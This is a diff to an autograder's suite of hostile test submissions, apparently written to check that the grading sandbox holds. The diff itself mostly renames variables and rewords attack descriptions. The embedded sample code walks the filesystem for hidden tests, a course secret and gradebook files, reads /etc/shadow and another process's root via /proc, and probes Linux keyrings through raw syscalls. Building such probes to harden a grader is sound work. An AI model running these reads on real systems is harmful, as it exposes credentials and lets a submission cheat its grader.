@@ -1,4 +1,4 @@
-"""Attacks that look for what is hidden: tests, the secret, solutions, other students' work, the grader itself."""
+"""Attacks that look for what is hidden: tests, the secret, solutions, other students' work, the host."""
 
 from __future__ import annotations
 
@@ -6,7 +6,7 @@ from autograder.demo.hostile.attack import Attack
 
 DISK = """
 import os, pathlib
-seen, found = 0, []
+hits = []
 for top in ("@COURSE@", "/home", "/root", "/run", "/course", "/tmp", "/etc", "/var", "/mnt", "/opt"):
     for folder, folders, files in os.walk(top):
         folders[:] = [name for name in folders if name != "site-packages"]
@@ -16,10 +16,10 @@ for top in ("@COURSE@", "/home", "/root", "/run", "/course", "/tmp", "/etc", "/v
                 if path.stat().st_size < 3_000_000 and (text := path.read_bytes()) and (
                     b"canary" in text or b"HIDDEN TESTS" in text or name in ("gradebook.db", ".course-secret")
                 ):
-                    found.append((str(path), text[:20000]))
+                    hits.append((str(path), text[:20000]))
             except OSError:
                 pass
-print(found)
+print(hits)
 for path in ("@COURSE@/.course-secret", "@COURSE@/gradebook.db", "/proc/1/root/@COURSE@/.course-secret", "/etc/shadow"):
     try:
         print(open(path, "rb").read())
@@ -150,9 +150,9 @@ libc = ctypes.CDLL(None, use_errno=True)
 ADD, READ, SEARCH = 248, 11, 10
 for key in (-3, -4, -5):
     libc.syscall(ADD, b"user", b"left-behind", b"note", 4, key)
-    found = libc.syscall(250, SEARCH, key, b"user", b"canary", 0)
+    serial = libc.syscall(250, SEARCH, key, b"user", b"canary", 0)
     text = ctypes.create_string_buffer(200)
-    if found > 0 and libc.syscall(250, READ, found, text, 200) > 0:
+    if serial > 0 and libc.syscall(250, READ, serial, text, 200) > 0:
         print(text.value)
 """
 
@@ -172,13 +172,13 @@ def linear_forward(x, w, b):
 """
 
 ATTACKS = (
-    Attack("read-disk", "looks for hidden tests, the secret and other people's work on the disk", first=DISK),
-    Attack("read-memory", "looks for them in frames, in objects and in modules", first=MEMORY, last=MEMORY),
-    Attack("read-raw-memory", "looks for them in the memory of its process and of the others", first=RAW_MEMORY),
+    Attack("read-disk", "looks for hidden tests, the secret and other students' work on disk", first=DISK),
+    Attack("read-memory", "looks for them in stack frames, objects and modules", first=MEMORY, last=MEMORY),
+    Attack("read-raw-memory", "looks for them in the raw memory of its own and other processes", first=RAW_MEMORY),
     Attack("read-proc", "looks for them in /proc, in environments and command lines", first=PROC),
-    Attack("read-descriptors", "looks for them in open descriptors and in IPython's history", first=DESCRIPTORS),
-    Attack("regain-rights", "tries to get rights back, and to see or change mounts", first=RIGHTS),
-    Attack("read-keys", "looks for them in the keyrings of Linux, and leaves one there", first=SESSION_KEYS),
-    Attack("read-question", "looks for the right answer while it is asked, and tells what it was asked",
+    Attack("read-descriptors", "looks for them in open file descriptors and in IPython's history", first=DESCRIPTORS),
+    Attack("regain-rights", "tries to regain rights, and to change mounts", first=RIGHTS),
+    Attack("read-keys", "looks for them in Linux's keyrings, and leaves a key there", first=SESSION_KEYS),
+    Attack("read-question", "looks for the right answer while it is called, and raises an error with its inputs",
            cells={"linear_forward": INPUTS}, words={"linear_forward": "raised"}),
 )  # fmt: skip
